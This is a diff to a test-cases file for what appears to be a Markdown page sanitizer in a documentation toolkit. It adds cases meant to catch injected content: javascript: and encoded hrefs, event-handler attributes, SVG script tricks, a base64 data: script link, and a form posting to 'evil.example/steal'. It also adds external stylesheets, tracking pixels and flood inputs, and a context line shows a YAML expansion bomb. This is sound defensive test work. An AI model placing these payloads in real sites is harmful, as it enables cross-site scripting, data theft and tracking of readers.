@@ -15,7 +15,19 @@ from typing import Any
 
 from conftest import AUTHORS, page
 
-__all__ = ["CASES", "GOOD", "GOOD_URLS", "Case"]
+__all__ = ["CASES", "EXTENSIONS", "GOOD", "GOOD_URLS", "Case"]
+
+EXTENSIONS: list[Any] = [
+    {"toc": {"permalink": True}},
+    "admonition",
+    "attr_list",
+    "def_list",
+    "tables",
+    "pymdownx.details",
+    "pymdownx.superfences",
+    {"pymdownx.tasklist": {"custom_checkbox": False}},
+]
+"""The Markdown extensions of the toolkit's own mkdocs.yml: what every case's site reads pages with."""
 
 GOOD: dict[str, str | bytes] = {
     "posts/authors.yml": AUTHORS,
@@ -59,6 +71,34 @@ BOMB = "".join(
     f"a{i}: &a{i} [" + ", ".join(["x" if i == 0 else f"*a{i - 1}"] * 10) + "]\n" for i in range(12)
 )
 """Twelve lines of YAML naming 10^12 values (the issue's 35 MB of output)."""
+
+
+ON = "the {0}= attribute of <{1}> is left out of the page: " + NO_SCRIPTS + ". Remove it"
+ELEMENT = (
+    "the <{0}> is left out of the page: pages may hold only the HTML Markdown writes (see "
+    "CONTRIBUTING.md, 'What a page may hold'). Write it in Markdown, or remove it"
+)
+ELSEWHERE = (
+    "the image from another site is left out of the page: pages load nothing from other sites. "
+    "Save the image in the repository and link to the file instead"
+)
+SCHEME = (
+    "the {0}: address is left out of the page: links lead to this site's pages and files, web "
+    "addresses (https://...), mailto: and tel: only. Use one of those"
+)
+BROKEN = (
+    "the link 'nowhere/at-all-{0}.md' leads to no file of this site (looked for "
+    "'nowhere/at-all-{0}.md'). Links name "
+    "the Markdown file, like ../guidance/paying-people.md"
+)
+TERMS_SHOWN = (
+    "power, leadership, diversity, capacity, term-0, term-1, term-2, term-3, term-4, term-5 and "
+    "294 more (see mkdocs.yml)"
+)
+
+
+def _page(body: str) -> str:
+    return page({"title": "A", "barriers": []}, body)
 
 
 def _text(front: str, body: str = "Text.\n") -> str:
@@ -443,7 +483,7 @@ CASES: tuple[Case, ...] = (
         (
             "docs/a.md:6: the <iframe> from ads.example is left out of the page: embeds may come "
             "only from the hosts in the coproduction plugin's 'embeds_allowed' "
-            "(www.youtube-nocookie.com). Link to it instead",
+            "(www.youtube-nocookie.com), at https:// addresses. Link to it instead",
         ),
         built=("a/",),
         options={"embeds_allowed": ["www.youtube-nocookie.com"]},
@@ -518,6 +558,151 @@ CASES: tuple[Case, ...] = (
         "active",
         {"docs/a.md": page({"title": "A", "barriers": []}, "<scr<script>ipt>alert(1)</script>\n")},
         (f"docs/a.md:6: {SCRIPT}",),
+        built=("a/",),
+    ),
+    # --- Issue 22: what got past the list of known tricks -----------------------------------
+    *(
+        Case(
+            f"issue-22-{name}",
+            "active",
+            {"docs/a.md": _page(body)},
+            tuple(f"docs/a.md:{n}: {m}" for n, m in sorted(said)),  # as problems are sorted
+            built=("a/",),
+        )
+        for name, body, said in (
+            (
+                "attr-list-onclick",
+                '[Open](guidance/good.md){onclick="alert(1)"}\n',
+                ((6, ON.format("onclick", "a")),),
+            ),
+            ("attr-list-href", '[Open](guidance/good.md){href="javascript:alert(1)"}\n', ((6, JAVASCRIPT),)),
+            (
+                "attr-list-onerror",
+                '![chart](guidance/good.md){onerror="alert(1)"}\n',
+                ((6, ON.format("onerror", "img")),),
+            ),
+            (
+                "svg-script",
+                "<svg><script>alert(1)</script></svg>\n",
+                ((6, ELEMENT.format("svg")), (6, SCRIPT)),
+            ),
+            (
+                "svg-animate-href",
+                '<svg><a><animate attributeName="href" to="javascript:alert(1)"/>'
+                '<set attributeName="href" to="javascript:alert(2)"/><text y="20">Go</text></a></svg>\n',
+                (
+                    (6, ELEMENT.format("svg")),
+                    (6, ELEMENT.format("a")),
+                    (6, ELEMENT.format("animate")),
+                    (6, ELEMENT.format("set")),
+                    (6, ELEMENT.format("text")),
+                ),
+            ),
+            (
+                "entity-encoded-javascript",
+                '<a href="&#106;ava&#x73;cript&#58;alert(1)">x</a>\n',
+                ((6, JAVASCRIPT),),
+            ),
+            ("split-javascript", '<a href="java&#x09;script:alert(1)">x</a>\n', ((6, JAVASCRIPT),)),
+            (
+                "meta-refresh",
+                'Hi.\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
+                ((8, ELEMENT.format("meta")),),
+            ),
+            (
+                "base-href",
+                '<base href="https://evil.example/">\n\n[Home](guidance/good.md)\n',
+                ((6, ELEMENT.format("base")),),
+            ),
+            (
+                "form-to-another-host",
+                '<form action="https://evil.example/steal"><button>Send</button></form>\n',
+                ((6, ELEMENT.format("form")), (6, ELEMENT.format("button"))),
+            ),
+            (
+                "stylesheet-from-another-host",
+                '<link rel="stylesheet" href="https://evil.example/a.css">\n',
+                ((6, ELEMENT.format("link")),),
+            ),
+            (
+                "css-import",
+                "<style>@import url(https://evil.example/b.css);</style>\n",
+                ((6, ELEMENT.format("style")),),
+            ),
+            ("tracking-image", "Hi.\n\n![](https://tracker.example/p.gif)\n", ((8, ELSEWHERE),)),
+            ("tracking-image-in-html", '<img src="//tracker.example/p.gif" alt="">\n', ((6, ELSEWHERE),)),
+            (
+                "data-html-link",
+                "[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n",
+                ((6, SCHEME.format("data")),),
+            ),
+            (
+                "script-in-a-heading",
+                "# Title <img src=x onerror=alert(1)>\n",
+                ((6, ON.format("onerror", "img")),),
+            ),
+            (
+                "many-scripts",
+                "<script>alert(1)</script>\n\n" * 300,
+                ((6, SCRIPT + " (300 times on this page)"),),
+            ),
+        )
+    ),
+    Case(
+        "issue-22-iframe-host-behind-a-backslash",
+        "active",
+        {"docs/a.md": _page('<iframe src="https://www.youtube-nocookie.com\\@evil.example/x"></iframe>\n')},
+        (
+            "docs/a.md:6: the <iframe> from evil.example is left out of the page: embeds may come "
+            "only from the hosts in the coproduction plugin's 'embeds_allowed' "
+            "(www.youtube-nocookie.com), at https:// addresses. Link to it instead",
+        ),
+        built=("a/",),
+        options={"embeds_allowed": ["www.youtube-nocookie.com"]},
+    ),
+    Case(
+        "issue-22-one-term-10000-times",
+        "flood",
+        {"docs/a.md": _text("title: A\nbarriers: [" + ", ".join(["power"] * 10_000) + "]\n")},
+        ("docs/a.md:3: barriers term 'power' is listed 10000 times: list it once",),
+        built=("a/",),
+    ),
+    Case(
+        "issue-22-unknown-terms-in-a-large-taxonomy",
+        "flood",
+        {
+            "docs/a.md": _text(
+                "title: A\nbarriers: [pwer, " + ", ".join(f"nope-{i}" for i in range(50)) + "]\n"
+            )
+        },
+        (
+            f"docs/a.md:3: 47 more barriers terms from this line on are not known terms: use those of "
+            f"mkdocs.yml ({TERMS_SHOWN})",
+            *[f"docs/a.md:3: unknown barriers term 'nope-{i}'. Known terms: {TERMS_SHOWN}" for i in range(3)],
+            "docs/a.md:3: unknown barriers term 'pwer'. Did you mean 'power'? Known terms: " + TERMS_SHOWN,
+        ),
+        built=("a/",),
+        options={
+            "taxonomies": {
+                "barriers": {
+                    "title": "Barriers",
+                    "terms": {
+                        **{t: {"title": t.title()} for t in ("power", "leadership", "diversity", "capacity")},
+                        **{f"term-{i}": {"title": f"Term {i}"} for i in range(300)},
+                    },
+                }
+            }
+        },
+    ),
+    Case(
+        "issue-22-8000-broken-links",
+        "flood",
+        {"docs/a.md": _page("".join(f"[x](nowhere/at-all-{i}.md)\n" for i in range(8000)))},
+        (
+            *[f"docs/a.md:{6 + i}: {BROKEN.format(i)}" for i in range(4)],
+            "docs/a.md:10: 7996 more links from this line on lead to no file of this site: fix them like "
+            "those above",
+        ),
         built=("a/",),
     ),
 )
